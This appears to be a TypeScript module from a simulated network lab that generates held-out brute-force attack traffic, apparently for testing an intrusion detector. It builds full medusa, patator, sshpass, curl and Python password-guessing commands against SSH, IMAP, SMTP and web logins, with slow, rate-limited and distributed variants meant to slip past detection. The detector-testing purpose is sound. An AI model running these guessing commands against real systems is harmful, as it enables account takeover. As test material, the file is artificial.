import { between, pick } from '../scene.ts'
import type { Attack, AttackScene } from '../scene.ts'
import type { Machine } from '../world.ts'
import { listFile, script } from './run-tool.ts'
import { attackOf, strike } from './strike.ts'
import type { Strike } from './strike.ts'
import { serverFor } from './targets.ts'
import { passwords, userNames } from './word-lists.ts'

const TEST = { category: 'bruteforce', corpora: ['test'] } as const

interface Lists {
  readonly users: string
  readonly words: string
}

function lists(scene: AttackScene, users: number, guesses: number): Lists {
  const { random } = scene
  return {
    users: listFile(scene, 'users', userNames(random, users)),
    words: listFile(scene, 'passwords', passwords(random, Math.ceil(guesses / users))),
  }
}

function medusa(scene: AttackScene, server: string, module: readonly string[]): Strike {
  const { random } = scene
  const { users, words } = lists(scene, between(random, 1, 4), between(random, 50, 200))
  const width = between(random, 1, 8)
  return {
    command: ['medusa', '-h', server, '-U', users, '-P', words, '-t', String(width), '-T', '1', '-M', ...module],
    targets: [server], packetsMin: 30, says: /ACCOUNT CHECK/, note: `medusa -t ${width} ${module[0]}`,
  }
}

/** patator's answers are filtered by their text; whatever the service says to a wrong guess is ignored. */
function patator(scene: AttackScene, server: string, [module, ...options]: readonly string[]): Strike {
  const { random } = scene
  const { users, words } = lists(scene, between(random, 1, 4), between(random, 80, 300))
  const gap = `--rate-limit=${(0.2 + random.uniform()).toFixed(2)}`
  const pace = random.uniform() < 0.5 ? ['-t', String(between(random, 2, 10))] : ['-t', '2', gap]
  return {
    command: ['patator', module ?? '', ...options.map((each) => each.replace('SERVER', server)), `0=${users}`, `1=${words}`, ...pace],
    targets: [server], packetsMin: 60, says: /Hits\/Done/, keepsInput: true,
    note: `patator ${module} ${pace.join(' ')}`,
  }
}

/** A shell loop, a guess at a time. `one` finds the user in $0 and the word in $1. */
function loop(scene: AttackScene, { server, tool, one, gapMs, on }: Loop): Strike {
  const { random } = scene
  const names = userNames(random, between(random, 1, 3))
  const [low, high] = gapMs
  const pairs = passwords(random, 120).flatMap((word) => names.map((name) => `${name} ${word}`))
  const wait = `gap=$((${low}+RANDOM%${high - low + 1})); sleep $(printf '%d.%03d' $((gap/1000)) $((gap%1000)))`
  return {
    command: ['xargs', '-a', listFile(scene, 'pairs', pairs), '-n', '2', 'bash', '-c', `${wait}; ${one}; :`],
    targets: [server], packetsMin: 30, note: `${tool} loop, a guess every ${low}-${high} ms`, ...(on === undefined ? {} : { on }),
  }
}

interface Loop {
  readonly server: string
  readonly tool: string
  readonly one: string
  readonly gapMs: readonly [number, number]
  readonly on?: Machine
}

function sshpass(scene: AttackScene, gapMs: readonly [number, number], on?: Machine): Strike {
  const server = serverFor(scene, 'jump')
  const quiet = '-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o ConnectTimeout=5'
  const one = `sshpass -p "$1" ssh ${quiet} -o NumberOfPasswordPrompts=1 "$0@${server}" true 2>/dev/null`
  return loop(scene, { server, tool: 'sshpass', one, gapMs, ...(on === undefined ? {} : { on }) })
}

function curl(scene: AttackScene, gapMs: readonly [number, number]): Strike {
  const server = serverFor(scene, 'www')
  const form = `curl -s -m 5 -o /dev/null --data-urlencode "user=$0" --data-urlencode "password=$1" http://${server}/login`
  const basic = `curl -s -m 5 -o /dev/null -u "$0:$1" http://${server}/account`
  return loop(scene, { server, tool: 'curl', one: pick(scene.random, [form, basic]), gapMs })
}

function python(scene: AttackScene, service: string, { gapMs, width, guesses }: Pace): Strike {
  const server = serverFor(scene, service === 'ssh' ? 'jump' : service === 'form' ? 'www' : 'mail')
  const { users, words } = lists(scene, between(scene.random, 1, 5), guesses)
  const pace = [width, ...gapMs, between(scene.random, 1, 1e6)].map(String)
  return {
    command: ['/usr/bin/python3', script('guess.py'), service, server, users, words, ...pace],
    targets: [server], packetsMin: 30, says: /^guessed \d+ \{'/m, note: `python ${service}, ${width} at once, gap ${gapMs.join('-')} ms`,
  }
}

interface Pace {
  readonly gapMs: readonly [number, number]
  readonly width: number
  readonly guesses: number
}

function pythonQuick(scene: AttackScene): Strike {
  const { random } = scene
  const pace = { gapMs: [0, between(random, 20, 600)], width: between(random, 1, 6), guesses: between(random, 80, 240) } as const
  return python(scene, pick(random, ['ssh', 'imap', 'smtp', 'form']), pace)
}

async function distributed(scene: AttackScene): Promise<void> {
  const machines = [scene.actor, ...await scene.recruit(between(scene.random, 3, 6))]
  await Promise.all(machines.map((on) => strike(scene, TEST, sshpass(scene, [2_000, 7_000], on))))
}

const MEDUSA_FORM = ['web-form', '-m', 'FORM:login', '-m', 'DENY-SIGNAL:wrong', '-m', 'FORM-DATA:post?user=&password=']
const PATATOR_SMTP = ['smtp_login', 'host=SERVER', 'port=587', 'user=FILE0', 'password=FILE1', '-x', 'ignore:code=535']
const PATATOR_SSH = ['ssh_login', 'host=SERVER', 'user=FILE0', 'password=FILE1', '-x', 'ignore:mesg=Authentication failed.']
const PATATOR_IMAP = ['imap_login', 'host=SERVER', 'user=FILE0', 'password=FILE1', '-x', 'ignore:fgrep=AUTHENTICATIONFAILED']

/** Guessers that no training capture shows. */
export const KEPT_GUESSING: readonly Attack[] = [
  attackOf({
    ...TEST, name: 'medusa-ssh', tool: 'medusa', place: 'outside', seconds: 120,
    plan: (scene) => medusa(scene, serverFor(scene, 'jump'), ['ssh']),
  }),
  attackOf({
    ...TEST, name: 'medusa-imap', tool: 'medusa', place: 'inside', seconds: 120,
    plan: (scene) => medusa(scene, serverFor(scene, 'mail'), ['imap']),
  }),
  attackOf({
    ...TEST, name: 'medusa-form', tool: 'medusa', place: 'inside', seconds: 120,
    plan: (scene) => medusa(scene, serverFor(scene, 'www'), MEDUSA_FORM),
  }),
  attackOf({
    ...TEST, name: 'patator-smtp', tool: 'patator', place: 'outside', seconds: 120,
    plan: (scene) => patator(scene, serverFor(scene, 'mail'), PATATOR_SMTP),
  }),
  attackOf({
    ...TEST, name: 'patator-ssh', tool: 'patator', place: 'inside', seconds: 120,
    plan: (scene) => patator(scene, serverFor(scene, 'jump'), PATATOR_SSH),
  }),
  attackOf({
    ...TEST, name: 'patator-imap', tool: 'patator', place: 'outside', seconds: 120,
    plan: (scene) => patator(scene, serverFor(scene, 'mail'), PATATOR_IMAP),
  }),
  attackOf({
    ...TEST, name: 'sshpass-slow', tool: 'sshpass', place: 'outside', seconds: 420,
    plan: (scene) => sshpass(scene, [3_000, 10_000]),
  }),
  attackOf({
    ...TEST, name: 'sshpass-inside', tool: 'sshpass', place: 'inside', seconds: 150,
    plan: (scene) => sshpass(scene, [100, 1_500]),
  }),
  { ...TEST, name: 'sshpass-distributed', tool: 'sshpass', place: 'outside', seconds: 240, isAlone: true, play: distributed },
  attackOf({
    ...TEST, name: 'curl-form', tool: 'curl', place: 'outside', seconds: 120,
    plan: (scene) => curl(scene, [50, 600]),
  }),
  attackOf({
    ...TEST, name: 'curl-slow', tool: 'curl', place: 'inside', seconds: 420,
    plan: (scene) => curl(scene, [3_000, 10_000]),
  }),
  attackOf({
    ...TEST, name: 'python-guess-outside', tool: 'python', place: 'outside', seconds: 120,
    plan: pythonQuick,
  }),
  attackOf({ ...TEST, name: 'python-guess-inside', tool: 'python', place: 'inside', seconds: 120, plan: pythonQuick }),
  attackOf({
    ...TEST, name: 'python-guess-slow', tool: 'python', place: 'outside', seconds: 420,
    plan: (scene) => python(scene, pick(scene.random, ['ssh', 'imap', 'form']), { gapMs: [3_000, 9_000], width: 1, guesses: 140 }),
  }),
]
